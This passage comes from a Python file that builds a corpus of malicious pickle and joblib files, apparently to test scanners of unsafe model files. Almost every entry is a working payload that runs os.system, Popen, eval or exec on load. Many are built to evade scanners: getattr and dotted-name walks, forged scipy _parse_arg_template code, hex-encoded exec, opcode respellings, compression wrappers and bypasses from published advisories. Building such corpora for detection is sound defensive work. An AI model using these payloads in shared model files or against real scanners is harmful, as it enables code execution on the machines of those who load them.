        "given a state with an object field: numpy reads the array's bytes as an object "
        "pointer (Python crashes)", check="loads")
def _():
    d = pk.call(pk.glob("numpy", "dtype"), pk.uni("V8"), pk.NEWFALSE, pk.NEWTRUE) + pk.put(60)
    objfields = pk.dct((pk.uni("a"), pk.tup(np_dtype("O"), pk.integer(0))))
    state = pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.tup(pk.uni("a")), objfields, pk.integer(8),
                   pk.integer(1), pk.integer(27))
    return (pk.proto(2) + pk.EMPTY_LIST + pk.MARK + reconstruct_array(d, 1, pk.binbytes(b"\x41" * 8))
            + pk.get(60) + state + pk.BUILD + pk.APPENDS + pk.STOP)


@attack("dtype_fields_on_float64.pkl", "dangerous", "state",
        "a float64 dtype given fields (an object at offset 0): numpy takes them, and the "
        "array's 8 raw bytes read as field 'a' are an object pointer", check="loads",
        expect=["pickle", "pickle-py"])
def _():
    objfields = pk.dct((pk.uni("a"), pk.tup(np_dtype("O"), pk.integer(0))))
    dt = (pk.call(pk.glob("numpy", "dtype"), pk.uni("f8"), pk.NEWFALSE, pk.NEWTRUE)
          + pk.tup(pk.integer(3), pk.uni("<"), pk.NONE, pk.tup(pk.uni("a")), objfields, _M1, _M1,
                   pk.integer(0)) + pk.BUILD)
    return pk.proto(2) + reconstruct_array(dt, 1, pk.binbytes(b"\x41" * 8)) + pk.STOP


@attack("dtype_field_past_itemsize.pkl", "dangerous", "state",
        "a dtype state whose field lies past the itemsize (offset 4096 in a V8)",
        check="loads", expect=["pickle"])
def _():
    dt = (pk.call(pk.glob("numpy", "dtype"), pk.uni("V8"), pk.NEWFALSE, pk.NEWTRUE)
          + pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.tup(pk.uni("f")),
                   pk.dct((pk.uni("f"), pk.tup(np_dtype("<f8"), pk.integer(4096)))),
                   pk.integer(8), pk.integer(1), pk.integer(0)) + pk.BUILD)
    return pk.proto(2) + dt + pk.STOP


def _template_state(result):
    """Readings that gave a scipy distribution its _parse_arg_template."""
    return [r for r, v in sorted(result["readings"].items())
            if any(k[2] == "_parse_arg_template" for k in v["state"])]


@attack("scipy_distribution_template.pkl", "dangerous", "state",
        "a frozen scipy distribution (as RandomizedSearchCV keeps them) whose pickled "
        "_parse_arg_template is code: restoring it execs the code, and every global it "
        "names looks safe", check=_template_state, expect=["pickle", "pickle-py", "joblib"])
def _():
    import pickle
    import scipy.stats
    d = scipy.stats.loguniform(1e-2, 1e2)
    d.dist._random_state = np.random.RandomState(0)
    d.dist.__dict__["_parse_arg_template"] = PY.replace("'", '"') + "\n" + \
        d.dist.__dict__["_parse_arg_template"]
    return pickle.dumps(d, protocol=2)


def _forged_distribution(change, protocol=2):
    """A frozen loguniform whose distribution's state `change` (a function of its
    __dict__) forges, pickled with `protocol`."""
    import pickle
    import scipy.stats
    d = scipy.stats.loguniform(1e-2, 1e2)
    d.dist._random_state = np.random.RandomState(0)
    change(d.dist.__dict__)
    return pickle.dumps(d, protocol=protocol)


def _template_with(**fill):
    from scipy.stats import _distn_infrastructure as di
    dct = dict(shape_arg_str="a, b, ", locscale_in="loc=0, scale=1", locscale_out="loc, scale")
    dct.update(fill)
    return di.parse_arg_template % dct


def _scipy_state_pickle(state, protocol=2):
    """scipy.stats.gamma pickled with the state `state` (as scipy < 1.6 pickled its
    (ctor_param, random_state), or forged so)."""
    import scipy.stats
    import gen_benign_scipy
    return gen_benign_scipy.pickled_with_getstate(scipy.stats.gamma, lambda self: state, protocol)


@attack("scipy15_state_template_key.pkl", "dangerous", "state",
        "a scipy < 1.6 state (ctor_param, random_state) whose ctor_param has two keys, "
        "'_parse_arg_template' and code, and whose random state is a pair: scipy >= 1.6 puts "
        "both into __dict__ (the template is the code) and execs it")
def _():
    return _scipy_state_pickle(({"_parse_arg_template": 0, PY.replace("'", '"') + "\n" + _template_with(): 0},
                                ("numargs", 2)))


@attack("scipy15_state_pairs.pkl", "dangerous", "state",
        "a scipy < 1.6 state whose random state is the pair ('_parse_arg_template', code): "
        "scipy >= 1.6 puts it into __dict__ and execs it")
def _():
    return _scipy_state_pickle(({"a": 0, "b": 0}, ("_parse_arg_template", PY.replace("'", '"') + "\n" +
                                                   _template_with())))


@attack("scipy_other_release_template.pkl", "dangerous", "state",
        "a distribution of a class scipy 1.14 and later define (irwinhall_gen) whose "
        "template runs code: a scipy that has the class execs it")
def _():
    code = _template_with(shape_arg_str="n=%s, " % PY.replace("'", '"'))
    data = _forged_distribution(lambda st: st.update(_parse_arg_template=code))
    assert data.count(b"reciprocal_gen") == 1
    return data.replace(b"\nreciprocal_gen\n", b"\nirwinhall_gen\n")


@attack("scipy_template_shape_default.pkl", "dangerous", "state",
        "scipy's own template with a shape 'name' that is a default value running code "
        "(def _parse_args(self, a=<code>, ...) evaluates it when the template is exec'd)",
        check=_template_state, expect=["pickle", "pickle-py", "joblib"])
def _():
    code = _template_with(shape_arg_str="a=%s, b, " % PY.replace("'", '"'))
    return _forged_distribution(lambda st: st.update(_parse_arg_template=code))


@attack("scipy_template_locscale_code.pkl", "dangerous", "state",
        "scipy's own template with a loc default that runs code (a locscale pair scipy never "
        "passes)", check=_template_state, expect=["pickle", "pickle-py", "joblib"])
def _():
    code = _template_with(locscale_in="loc=%s, scale=1" % PY.replace("'", '"'))
    return _forged_distribution(lambda st: st.update(_parse_arg_template=code))


@attack("scipy_template_duplicate_key.pkl", "dangerous", "state",
        "a distribution state with _parse_arg_template twice: scipy's template first, code "
        "last (the dict Python builds keeps the last)", check=_template_state,
        expect=["pickle", "pickle-py", "joblib"])
def _():
    forged = PY.replace("'", '"') + "\n" + _template_with()
    data = _forged_distribution(lambda st: st.update(_parse_arg_templatX=forged))
    assert data.count(b"_parse_arg_templatX") == 1
    return data.replace(b"_parse_arg_templatX", b"_parse_arg_template")


@attack("scipy_template_pairs_state.pkl", "dangerous", "state",
        "a distribution restored from a tuple of (key, value) pairs: rv_generic.__setstate__ "
        "puts them into __dict__ and execs the template they carry", expect=["pickle"])
def _():
    forged = PY.replace("'", '"') + "\n" + _template_with()
    cls = pk.glob("scipy.stats._continuous_distns", "reciprocal_gen") + pk.EMPTY_TUPLE + pk.NEWOBJ
    pairs = pk.tup(pk.tup(pk.uni("_parse_arg_template"), pk.uni(forged)),
                   pk.tup(pk.uni("numargs"), pk.integer(2)))
    return pk.proto(2) + cls + pairs + pk.BUILD + pk.STOP


@attack("scipy_template_reconstructor.pkl", "dangerous", "state",
        "a forged _parse_arg_template in a protocol 0 pickle (the distribution made by "
        "copyreg._reconstructor)", check=_template_state, expect=["pickle", "pickle-py", "joblib"])
def _():
    forged = PY.replace("'", '"') + "\n" + _template_with()
    return _forged_distribution(lambda st: st.update(_parse_arg_template=forged), protocol=0)


@attack("reconstructor_popen.pkl", "dangerous", "state",
        "copyreg._reconstructor(Popen, Popen, cmd): the class it builds runs the command",
        expect=["pickle"])
def _():
    return pk.proto(2) + pk.call(pk.glob("copyreg", "_reconstructor"),
                                 pk.glob("subprocess", "Popen"), pk.glob("subprocess", "Popen"),
                                 pk.uni(CMD)) + pk.STOP


def _reconstructor0(cls, base, state):
    """copy_reg._reconstructor(cls, base, state) as protocol 0 writes it (Python 2 names,
    MARK ... TUPLE)."""
    return (pk.glob("copy_reg", "_reconstructor") + pk.MARK + cls + base + state + pk.TUPLE
            + pk.REDUCE)


@attack("reconstructor_p0_popen_base.pkl", "dangerous", "state",
        "protocol 0 copy_reg._reconstructor(StandardScaler, Popen, cmd): a safe class built "
        "with a dangerous base, whose __new__ and __init__ run on the object (Popen's stops "
        "at its first own method here; the base is judged by name, whatever it is)")
def _():
    return _reconstructor0(pk.glob("sklearn.preprocessing._data", "StandardScaler"),
                           pk.glob("subprocess", "Popen"), pk.uni0(CMD)) + pk.STOP


@attack("reconstructor_p0_system_class.pkl", "dangerous", "state",
        "protocol 0 copy_reg._reconstructor(os.system, object, None): the base is the "
        "harmless one, the class built is a dangerous callable")
def _():
    return _reconstructor0(pk.glob("os", "system"), pk.glob("__builtin__", "object"),
                           pk.NONE) + pk.STOP


@attack("reconstructor_p0_eval_base.pkl", "dangerous", "state",
        "protocol 0 copy_reg._reconstructor(StandardScaler, eval, code): a dangerous "
        "function as the base")
def _():
    return _reconstructor0(pk.glob("sklearn.preprocessing._data", "StandardScaler"),
                           pk.glob("__builtin__", "eval"), pk.uni0(PY)) + pk.STOP


@attack("cython_unpickle_foreign_class.pkl", "suspicious", "state",
        "a Cython __pyx_unpickle_ helper asked to build a class of another module")
def _():
    return pk.proto(2) + pk.call(pk.glob("sklearn._loss._loss", "__pyx_unpickle_CyHalfSquaredError"),
                                 pk.glob("collections", "OrderedDict"), pk.integer(0),
                                 pk.NONE) + pk.STOP


@attack("cython_newobj_foreign_class.pkl", "suspicious", "state",
        "sklearn's Cython newObj helper asked to build a class of another module")
def _():
    return pk.proto(2) + pk.call(pk.glob("sklearn.neighbors._kd_tree", "newObj"),
                                 pk.glob("collections", "OrderedDict")) + pk.STOP


@attack("getattr_safe_object_method.pkl", "suspicious", "state",
        "getattr(a Pipeline with a memory cache, 'fit') then a call: a safe object's method "
        "that writes files")
def _():
    pipe = (pk.glob("sklearn.pipeline", "Pipeline") + pk.EMPTY_TUPLE + pk.NEWOBJ
            + pk.dct((pk.uni("steps"), pk.lst()), (pk.uni("memory"), pk.uni("/tmp/jlp-cache")))
            + pk.BUILD)
    return pk.proto(4) + pk.call(pk.call(pk.glob("builtins", "getattr"), pipe, pk.uni("fit")),
                                 pk.NONE) + pk.STOP


@attack("getattr_dunder_chain.pkl", "dangerous", "state",
        "getattr walks from a safe estimator to __init__.__globals__",
        expect=["pickle"])
def _():
    g = pk.glob("builtins", "getattr")
    est = pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ
    cls = pk.call(g, est, pk.uni("__class__"))
    init = pk.call(g, cls, pk.uni("__init__"))
    return pk.proto(4) + pk.call(g, init, pk.uni("__globals__")) + pk.STOP


# ==== 3. gadgets outside the usual names ========================================================

GADGETS = [
    # (file stem, module, qualname, args, what)
    ("uuid_get_command_stdout", "uuid", "_get_command_stdout", (pk.uni("touch"), pk.uni(MARKER)),
     "uuid's helper runs a command"),
    ("uuid_netstat_getnode", "uuid", "_netstat_getnode", (),
     "uuid's helper runs netstat (a program found on PATH, constant arguments)"),
    ("uuid_getnode", "uuid", "getnode", (),
     "uuid.getnode runs ip or ifconfig where the uuid module has no native call"),
    ("osx_support_read_output", "_osx_support", "_read_output", (pk.uni(CMD),),
     "_osx_support runs a shell command"),
    ("osx_support_find_build_tool", "_osx_support", "_find_build_tool", (pk.uni("touch"),),
     "_osx_support runs xcrun"),
    ("logging_dictconfig_factory", "logging.config", "dictConfig",
     (pk.py_value({"version": 1, "handlers": {"h": {"()": "os.system", "command": CMD}},
                   "root": {"handlers": ["h"]}}),),
     "logging.config.dictConfig resolves '()': 'os.system' and calls it"),
    ("logging_fileconfig", "logging.config", "fileConfig", (pk.uni("/tmp/jlp-planted.ini"),),
     "logging.config.fileConfig evaluates handler arguments from a file"),
    ("logging_filehandler", "logging", "FileHandler", (pk.uni(MARKER),),
     "logging.FileHandler creates a file"),
    ("cloudpickle_loads", "joblib.externals.cloudpickle", "loads", (pk.binbytes(inner_pickle_system()),),
     "joblib's vendored cloudpickle loads a nested pickle"),
    ("loky_fork_exec", "joblib.externals.loky.backend.fork_exec", "fork_exec",
     (pk.py_value(["/bin/touch", MARKER]), pk.EMPTY_TUPLE), "loky's fork_exec runs a program"),
    ("joblib_load_compatibility", "joblib.numpy_pickle_compat", "load_compatibility",
     (pk.uni("/tmp/jlp-planted.pkl"),), "joblib's compat loader unpickles another file"),
    ("joblib_load", "joblib", "load", (pk.uni("/tmp/jlp-planted.joblib"),), "joblib.load of another file"),
    ("sklearn_run_python_script", "sklearn.utils._testing", "assert_run_python_script", (pk.uni(PY),),
     "scikit-learn's test helper runs a python script"),
    ("numpy_save", "numpy", "save", (pk.uni(MARKER + ".npy"), pk.py_value([1, 2])), "numpy.save writes a file"),
    ("numpy_savetxt", "numpy", "savetxt", (pk.uni(MARKER + ".txt"), pk.py_value([1, 2])),
     "numpy.savetxt writes a file"),
    ("numpy_load_allow_pickle", "numpy", "load", (pk.uni("/tmp/jlp-planted.npy"), pk.NONE, pk.NEWTRUE),
     "numpy.load(allow_pickle=True) of another file"),
    ("numpy_open_memmap", "numpy.lib.format", "open_memmap",
     (pk.uni(MARKER + ".npy"), pk.uni("w+"), pk.uni("u1"), pk.tup(pk.integer(16))),
     "numpy's open_memmap creates a file"),
    ("numpy_runstring", "numpy.testing._private.utils", "runstring", (pk.uni(PY), pk.EMPTY_DICT),
     "numpy's test helper execs a string"),
    ("frozen_importlib_gcd_import", "_frozen_importlib", "_gcd_import", (pk.uni("antigravity"),),
     "the import machinery imports a module that opens a browser"),
    ("importlib_import_module", "importlib", "import_module", (pk.uni("antigravity"),),
     "importlib imports any module"),
    ("imp_init_frozen", "_imp", "init_frozen", (pk.uni("__hello__"),), "_imp runs a frozen module"),
    ("timeit_timeit", "timeit", "timeit", (pk.uni(PY), pk.uni("pass")), "timeit execs its statement"),
    ("cprofile_run", "cProfile", "run", (pk.uni(PY),), "cProfile.run execs its statement"),
    ("profile_run", "profile", "run", (pk.uni(PY),), "profile.run execs its statement"),
    ("pdb_run", "pdb", "run", (pk.uni(PY),), "pdb.run execs its statement"),
    ("runpy_run_path", "runpy", "run_path", (pk.uni("/tmp/jlp-planted.py"),), "runpy runs a script"),
    ("distutils_spawn", "distutils.spawn", "spawn", (pk.py_value(["touch", MARKER]),),
     "distutils.spawn runs a program"),
    ("test_support_assert_python_ok", "test.support.script_helper", "assert_python_ok",
     (pk.uni("-c"), pk.uni(PY)), "CPython's test helper runs python"),
    ("sympy_via_scipy", "scipy.special._precompute.wright_bessel", "S", (pk.uni(PY),),
     "sympy's S (sympify, eval) reached through a scipy module that imports it"),
    ("pydoc_pipepager", "pydoc", "pipepager", (pk.uni("text"), pk.uni(CMD)), "pydoc's pager runs a command"),
    ("webbrowser_open", "webbrowser", "open", (pk.uni("http://127.0.0.1/"),), "opens a browser"),
    ("shutil_rmtree", "shutil", "rmtree", (pk.uni(MARKER),), "removes a tree"),
    ("socket_create_connection", "socket", "create_connection", (pk.tup(pk.uni("127.0.0.1"), pk.integer(9)),),
     "opens a network connection"),
    ("urllib_urlopen", "urllib.request", "urlopen", (pk.uni("http://127.0.0.1:9/"),), "fetches a URL"),
    ("subprocess_check_output", "subprocess", "check_output", (pk.py_value(["touch", MARKER]),), "runs a program"),
    ("subprocess_popen", "subprocess", "Popen", (pk.uni(CMD),), "runs a program"),
    ("posix_system", "posix", "system", (pk.uni(CMD),), "os.system under its C module name"),
    ("nt_system", "nt", "system", (pk.uni(CMD),), "os.system under its Windows module name"),
    ("os_popen", "os", "popen", (pk.uni(CMD),), "runs a shell command"),
    ("pty_spawn", "pty", "spawn", (pk.uni("/bin/true"),), "runs a program on a pseudo-terminal"),
    ("builtins_exec", "builtins", "exec", (pk.uni(PY),), "execs python"),
    ("builtins_eval", "builtins", "eval", (pk.uni(PY),), "evaluates python"),
    ("pickle_loads_nested", "pickle", "loads", (pk.binbytes(inner_pickle_system()),),
     "loads a nested pickle"),
    ("pickle_py_loads_nested", "pickle", "_loads", (pk.binbytes(inner_pickle_system()),),
     "loads a nested pickle with the Python unpickler"),
    ("torch_load", "torch", "load", (pk.uni("/tmp/jlp-planted.pt"),), "torch.load of another file"),
]

for _stem, _mod, _qn, _args, _what in GADGETS:
    _g = dotted(_mod, _qn) if "." in _qn else pk.glob(_mod, _qn)
    attack(_stem + ".pkl", "dangerous", "gadget", _what,
           expect=[] if _mod == "nt" else ["pickle"])(
        (lambda g, a: lambda: pk.proto(4) + pk.call(g, *a) + pk.STOP)(_g, _args))


METHOD_GADGETS = [
    ("code_interpreter_runsource", "code", "InteractiveInterpreter", (), "runsource", (pk.uni(PY),),
     "code.InteractiveInterpreter.runsource execs python (a dotted method)"),
    ("code_console_push", "code", "InteractiveConsole", (), "push", (pk.uni(PY),),
     "code.InteractiveConsole.push execs python"),
    ("bdb_run", "bdb", "Bdb", (), "run", (pk.uni(PY),), "bdb.Bdb.run execs python"),
    ("trace_run", "trace", "Trace", (), "run", (pk.uni(PY),), "trace.Trace.run execs python"),
    ("cprofile_profile_run", "cProfile", "Profile", (), "run", (pk.uni(PY),), "cProfile.Profile.run execs python"),
    ("ndarray_tofile", "numpy", "ndarray", None, "tofile", (pk.uni(MARKER),),
     "numpy's ndarray.tofile writes a file (a dotted method of a safe class)"),
]

for _stem, _mod, _cls, _cargs, _meth, _args, _what in METHOD_GADGETS:
    def _mk(mod=_mod, cls=_cls, cargs=_cargs, meth=_meth, args=_args):
        obj = real_array_u1() if cargs is None else instance(mod, cls, *cargs)
        return pk.proto(4) + pk.call(dotted(mod, "%s.%s" % (cls, meth)), obj, *args) + pk.STOP
    attack(_stem + ".pkl", "dangerous", "gadget", _what, expect=["pickle"])(_mk)


# C modules the rule walk cannot look into, and resolvers outside its reach (second
# red-team round): each was only suspicious while Python ran what it was given
@attack("subinterpreter_run_string.pkl", "dangerous", "gadget",
        "_xxsubinterpreters.run_string(create(), code) runs python code in a subinterpreter "
        "(the code names no dunder)",
        expect=["pickle"])
def _():
    interp = pk.call(pk.glob("_xxsubinterpreters", "create"))
    return pk.proto(4) + pk.call(pk.glob("_xxsubinterpreters", "run_string"), interp, pk.uni(PY_PLAIN)) + pk.STOP


@attack("testcapi_run_in_subinterp.pkl", "dangerous", "gadget",
        "CPython's _testcapi.run_in_subinterp runs python code (the code names no dunder)",
        expect=["pickle"])
def _():
    return pk.proto(4) + pk.call(pk.glob("_testcapi", "run_in_subinterp"), pk.uni(PY_PLAIN)) + pk.STOP


@attack("torch_import_dotted_name_then_call.pkl", "dangerous", "gadget",
        "torch._utils._import_dotted_name('os.system') imports os and returns the function, "
        "which the pickle then calls", expect=["pickle"])
def _():
    f = pk.call(pk.glob("torch._utils", "_import_dotted_name"), pk.uni("os.system"))
    return pk.proto(4) + pk.call(f, pk.uni(CMD)) + pk.STOP


@attack("typing_eval_type_forwardref.pkl", "dangerous", "gadget",
        "typing._eval_type(ForwardRef(code), {}, {}) evals the code with the builtins in "
        "scope; no dunder name anywhere (exec of hex-decoded source)", expect=["pickle"])
def _():
    src = "exec(bytes.fromhex('%s').decode())" % ("import os; os.system(%r)" % CMD).encode().hex()
    ref = pk.call(pk.glob("typing", "ForwardRef"), pk.uni(src))
    return pk.proto(4) + pk.call(pk.glob("typing", "_eval_type"), ref, pk.EMPTY_DICT, pk.EMPTY_DICT) + pk.STOP


@attack("pyio_open_write.pkl", "dangerous", "gadget",
        "the pure-Python io's open(path, 'w') creates a file", expect=["pickle"])
def _():
    return pk.proto(4) + pk.call(pk.glob("_pyio", "open"), pk.uni(MARKER), pk.uni("w")) + pk.STOP


@attack("sqlite3_connection_creates_file.pkl", "dangerous", "gadget",
        "_sqlite3.Connection(path) creates the database file", expect=["pickle"])
def _():
    return pk.proto(4) + pk.call(pk.glob("_sqlite3", "Connection"), pk.uni(MARKER + ".db")) + pk.STOP


@attack("fcntl_ioctl_tiocsti.pkl", "dangerous", "gadget",
        "fcntl.ioctl(0, TIOCSTI, b'x') pushes a byte into the terminal's input (the shell "
        "reads it as typed once the load ends)", expect=["pickle"])
def _():
    return pk.proto(4) + pk.call(pk.glob("fcntl", "ioctl"), pk.integer(0), pk.integer(0x5412),
                                 pk.binbytes(b"x")) + pk.STOP


@attack("stride_tricks_as_strided.pkl", "dangerous", "gadget",
        "numpy's as_strided makes a view of any strides over a one-byte array: reads and "
        "writes outside its buffer", expect=["pickle"])
def _():
    return pk.proto(4) + pk.call(pk.glob("numpy.lib.stride_tricks", "as_strided"), real_array_u1(),
                                 pk.tup(pk.integer(1 << 20)), pk.tup(pk.integer(4096))) + pk.STOP


@attack("pydoc_locate_then_call.pkl", "dangerous", "gadget",
        "pydoc.locate('os.system') returns the function, which the pickle then calls",
        expect=["pickle"])
def _():
    f = pk.call(pk.glob("pydoc", "locate"), pk.uni("os.system"))
    return pk.proto(4) + pk.call(f, pk.uni(CMD)) + pk.STOP


@attack("dotted_walk_to_system.pkl", "dangerous", "gadget",
        "STACK_GLOBAL('joblib.numpy_pickle', 'os.system'): a module that imports os, walked "
        "to the command runner", expect=["pickle"])
def _():
    return pk.proto(4) + pk.call(dotted("joblib.numpy_pickle", "os.system"), pk.uni(CMD)) + pk.STOP


@attack("dotted_walk_safe_class_globals.pkl", "dangerous", "gadget",
        "a safe class walked through __init__.__globals__ to its module's globals, where "
        "SETITEMS replaces 'np'", expect=["pickle"])
def _():
    return (pk.proto(4) + dotted("sklearn.linear_model._logistic", "LogisticRegression.__init__.__globals__")
            + pk.MARK + pk.uni("np") + pk.call(pk.glob("collections", "OrderedDict")) + pk.SETITEMS
            + pk.STOP)


@attack("import_getattr_chain.pkl", "dangerous", "gadget",
        "getattr(__import__('os'), 'system')(cmd)", expect=["pickle"])
def _():
    os_mod = pk.call(pk.glob("builtins", "__import__"), pk.uni("os"))
    f = pk.call(pk.glob("builtins", "getattr"), os_mod, pk.uni("system"))
    return pk.proto(2) + pk.call(f, pk.uni(CMD)) + pk.STOP


@attack("methodcaller_chain.pkl", "dangerous", "gadget",
        "operator.methodcaller('system', cmd) applied to __import__('os')", expect=["pickle"])
def _():
    mc = pk.call(pk.glob("operator", "methodcaller"), pk.uni("system"), pk.uni(CMD))
    os_mod = pk.call(pk.glob("builtins", "__import__"), pk.uni("os"))
    return pk.proto(2) + pk.call(mc, os_mod) + pk.STOP


@attack("partial_system.pkl", "dangerous", "gadget",
        "functools.partial(os.system, cmd) called with no arguments", expect=["pickle"])
def _():
    p = pk.call(pk.glob("functools", "partial"), pk.glob("os", "system"), pk.uni(CMD))
    return pk.proto(2) + pk.call(p) + pk.STOP


@attack("marshal_function.pkl", "dangerous", "gadget",
        "marshal.loads of code bytes, made a function by types.FunctionType, called",
        expect=["pickle"])
def _():
    code = pk.call(pk.glob("marshal", "loads"), pk.binbytes(b"\xe3" + b"\x00" * 24))
    fn = pk.call(pk.glob("types", "FunctionType"), code, pk.EMPTY_DICT)
    return pk.proto(2) + pk.call(fn) + pk.STOP


# the same command runner, spelled the ways scanners missed it
@attack("spelling_inst_opcode.pkl", "dangerous", "differential", "os.system by INST", expect=["pickle"])
def _():
    return pk.MARK + pk.string0(CMD) + pk.inst("os", "system") + pk.STOP


@attack("spelling_obj_opcode.pkl", "dangerous", "differential", "os.system by OBJ", expect=["pickle"])
def _():
    return pk.proto(1) + pk.MARK + pk.glob("os", "system") + pk.uni(CMD) + pk.OBJ + pk.STOP


@attack("spelling_obj_then_pop.pkl", "dangerous", "differential",
        "os.system by OBJ, its result popped (GHSA-mxhj-88fx-4pcv)", expect=["pickle"])
def _():
    return (pk.proto(1) + pk.MARK + pk.glob("os", "system") + pk.uni(CMD) + pk.OBJ + pk.POP
            + pk.dct((pk.uni("ok"), pk.integer(1))) + pk.STOP)


@attack("spelling_stack_global_binstring.pkl", "dangerous", "differential",
        "STACK_GLOBAL whose operands are py2 str opcodes (GHSA-9gvj-pp9x-gcfr)", expect=["pickle"])
def _():
    g = pk.binstring(b"os") + pk.binstring(b"system") + pk.STACK_GLOBAL
    return pk.proto(4) + pk.call(g, pk.uni(CMD)) + pk.STOP


@attack("spelling_unicode_escapes.pkl", "dangerous", "differential",
        "module and name pushed by UNICODE lines with raw-unicode escapes ('\\u006fs')",
        expect=["pickle"])
def _():
    g = b"V\\u006fs\n" + b"Vs\\u0079stem\n" + pk.STACK_GLOBAL
    return pk.proto(4) + pk.call(g, pk.uni(CMD)) + pk.STOP


@attack("spelling_py2_builtin.pkl", "dangerous", "differential",
        "'__builtin__ eval' in a protocol 2 stream (Python 3 renames it to builtins.eval)",
        expect=["pickle"])
def _():
    return pk.proto(2) + pk.call(pk.glob("__builtin__", "eval"), pk.uni(PY)) + pk.STOP


@attack("spelling_memo_stash.pkl", "dangerous", "differential",
        "os.system stored in the memo, popped, and called much later", expect=["pickle"])
def _():
    return (pk.proto(2) + pk.glob("os", "system") + pk.put(7) + pk.POP
            + pk.lst(*[pk.integer(i) for i in range(50)]) + pk.POP
            + pk.call(pk.get(7), pk.uni(CMD)) + pk.STOP)


@attack("spelling_text_memo.pkl", "dangerous", "differential",
        "os.system stored with PUT '010' and fetched with GET '10'", expect=["pickle"])
def _():
    return (pk.glob("os", "system") + pk.put_text("010") + pk.POP + pk.MARK
            + pk.get_text("10") + pk.MARK + pk.string0(CMD) + pk.TUPLE + pk.REDUCE
            + pk.POP_MARK + pk.NONE + pk.STOP)


@attack("spelling_in_dict_key.pkl", "dangerous", "differential",
        "the call is a dict key inside a nested structure", expect=["pickle"])
def _():
    return pk.proto(2) + pk.lst(pk.dct((pk.system(CMD), pk.integer(1)))) + pk.STOP


@attack("zlib_joblib_system.joblib", "dangerous", "differential",
        "a zlib-compressed joblib stream with os.system", expect=["joblib"])
def _():
    return zlib.compress(pk.proto(4) + pk.system(CMD) + pk.STOP, 3)


for _ext, _comp in [("gzip", lambda d: gzip.compress(d, 3, mtime=0)),
                    ("bz2", lambda d: bz2.compress(d, 3)),
                    ("xz", lambda d: lzma.compress(d, format=lzma.FORMAT_XZ)),
                    ("lzma", lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE))]:
    attack("%s_joblib_system.joblib" % _ext, "dangerous", "differential",
           "a %s-compressed joblib stream with os.system" % _ext, expect=["joblib"])(
        (lambda c: lambda: c(pk.proto(4) + pk.system(CMD) + pk.STOP))(_comp))


@attack("lz4_joblib_system.joblib", "dangerous", "differential",
        "an lz4-compressed joblib stream with os.system", expect=["joblib"])
def _():
    import lz4.frame
    return lz4.frame.compress(pk.proto(4) + pk.system(CMD) + pk.STOP)


@attack("lz4_skippable_frame_split.joblib", "dangerous", "differential",
        "an lz4 joblib stream split in two frames around a skippable frame, the os.system "
        "call in the second: python-lz4 skips the skippable frame and reads on",
        expect=["joblib"])
def _():
    import lz4.frame
    skip = b"\x50\x2a\x4d\x18" + struct.pack("<I", 4) + b"ABCD"
    return (lz4.frame.compress(pk.proto(4) + pk.EMPTY_LIST + pk.POP) + skip
            + lz4.frame.compress(pk.system(CMD) + pk.STOP))


@attack("second_pickle_after_stop.pkl", "suspicious", "differential",
        "a harmless pickle, then a second one that calls os.system: loaders read only the "
        "first, a loop of pickle.load would run the second")
def _():
    return pk.proto(2) + pk.NONE + pk.STOP + pk.proto(2) + pk.system(CMD) + pk.STOP


# Gadgets of published scanner bypasses (picklescan, fickling and modelscan advisories,
# 2025-2026), each called with the arguments its advisory used.
_PY_CMD = "__import__('os').system(%r)" % CMD
_PUBLISHED = [
    ("mailcap_findmatch.pkl", "mailcap", "findmatch", "runs a mailcap entry's test command",
     lambda: (pk.dct((pk.uni("text/plain"), pk.lst(pk.dct((pk.uni("view"), pk.uni("cat %s")),
                                                           (pk.uni("test"), pk.uni(CMD)))))),
              pk.uni("text/plain"))),
    ("f2py_getlincoef.pkl", "numpy.f2py.crackfortran", "getlincoef", "evals its expression",
     lambda: (pk.uni(_PY_CMD), pk.dct())),
    ("f2py_eval_length.pkl", "numpy.f2py.crackfortran", "_eval_length", "evals its expression",
     lambda: (pk.uni(_PY_CMD), pk.dct())),
    ("pkgutil_resolve_name.pkl", "pkgutil", "resolve_name", "imports and returns os.system",
     lambda: (pk.uni("os:system"),)),
    ("importlib_util_find_spec.pkl", "importlib.util", "find_spec", "imports by name",
     lambda: (pk.uni("os"),)),
    ("distutils_write_file.pkl", "distutils.file_util", "write_file", "writes a file",
     lambda: (pk.uni(MARKER), pk.lst(pk.uni("x")))),
    ("asyncio_unix_subprocess_transport.pkl", "asyncio.unix_events", "_UnixSubprocessTransport",
     "starts a shell command", lambda: (pk.NONE, pk.NONE, pk.uni(CMD), pk.NEWTRUE, pk.NONE, pk.NONE,
                                        pk.NONE, pk.integer(0))),
    ("doctest_debug_script.pkl", "doctest", "debug_script", "runs python code under pdb",
     lambda: (pk.uni("import os"),)),
    ("ensurepip_run_pip.pkl", "ensurepip", "_run_pip", "runs pip", lambda: (pk.lst(pk.uni("--version")),)),
    ("cprofile_runctx.pkl", "cProfile", "runctx", "runs python code",
     lambda: (pk.uni("import os"), pk.dct(), pk.dct())),
]


def _published(name, module, qualname, what, args):
    @attack(name, "dangerous", "gadget", "%s.%s %s (a published scanner bypass)" % (module, qualname, what))
    def _():
        return pk.proto(2) + pk.call(pk.glob(module, qualname), *args()) + pk.STOP


for _p in _PUBLISHED:
    _published(*_p)


@attack("formatter_field_walk_to_eval.pkl", "dangerous", "gadget",
        "string.Formatter().get_field('0.__globals__', (numpy.mean,), {}) gives numpy's module "
        "globals, get_field('0[__builtins__][eval]', ...) then eval, called by REDUCE: no "
        "dangerous name is named", expect=["joblib", "pickle", "pickle-py"])
def _():
    gf, fmt = pk.glob("string", "Formatter.get_field"), pk.call(pk.glob("string", "Formatter"))
    first = lambda x: pk.call(pk.glob("operator", "getitem"), x, pk.integer(0))
    glb = first(pk.call(gf, fmt, pk.uni("0.__globals__"), pk.tup(pk.glob("numpy", "mean")), pk.dct()))
    ev = first(pk.call(gf, fmt, pk.uni("0[__builtins__][eval]"), pk.tup(glb), pk.dct()))
    return pk.proto(4) + ev + pk.tup(pk.uni(PY)) + pk.REDUCE + pk.STOP


@attack("numpy_prod_build_patch.pkl", "dangerous", "gadget",
        "BUILD patches numpy.prod with attributes a='os', b='system', then STACK_GLOBAL of "
        "the strings read back through the dotted names numpy.prod.a and .b (a modelscan "
        "bypass)")
def _():
    return (pk.proto(5) + pk.glob("numpy", "prod") + pk.NONE + pk.MARK + pk.uni0("a") + pk.uni0("os") + pk.DICT
